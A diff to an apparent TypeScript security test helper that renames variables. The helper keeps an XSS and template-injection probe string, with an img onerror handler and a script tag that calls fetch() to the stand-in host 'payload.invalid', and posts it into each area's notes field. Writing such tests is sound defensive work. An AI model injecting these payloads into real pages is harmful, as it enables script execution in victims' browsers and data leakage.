@@ -4,9 +4,9 @@ import type { Field, RowsField } from '../../core/fields'
 import { tokenOf } from './people'
 
 /** Where nothing of the product ever goes. */
-export const elsewhere = 'payload.invalid'
+export const hostileHost = 'payload.invalid'
 /** Runs where it is taken for markup, and then says so to somebody else. */
-const whole = `"'><img src=//${elsewhere}/i onerror="window.ran=1"><script>window.ran=1;fetch('//${elsewhere}')</script>{{7*7}}\${7*7}`
+const whole = `"'><img src=//${hostileHost}/i onerror="window.ran=1"><script>window.ran=1;fetch('//${hostileHost}')</script>{{7*7}}\${7*7}`
 const short = '<img src=x onerror=window.ran=1>'
 
 const payload = (max: number) =>
@@ -87,8 +87,8 @@ export async function fillHostile(
     if (field.kind === 'choice') return field.choices[0]
     return undefined
   }
-  for (const { name, derived } of areas) {
-    if (derived) continue
+  for (const { name, computed } of areas) {
+    if (computed) continue
     const id = await idOf(name)
     await send(`${name}/${id}/notes`, { text: whole })
   }
